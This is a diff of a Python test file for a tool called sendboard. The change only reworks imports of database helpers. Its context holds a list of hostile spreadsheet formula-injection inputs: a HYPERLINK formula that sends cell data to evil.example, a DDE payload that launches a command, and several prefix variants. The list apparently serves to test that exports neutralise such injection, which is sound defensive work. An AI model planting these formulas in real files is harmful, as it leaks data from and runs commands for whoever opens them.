@@ -11,7 +11,8 @@ import pytest
 from openpyxl import load_workbook
 
 from sendboard import audit, cli, exports, ui
-from sendboard.db import close_all, open_database
+from sendboard.app_db import open_database
+from sendboard.db import close_all
 
 HOSTILE = ['=HYPERLINK("http://evil.example/?d="&A1,"Click")', "=cmd|' /C calc'!A0", "@SUM(1+1)", "+1+1",
            "-2+3", "\t=1+1", "\r=1+1"]
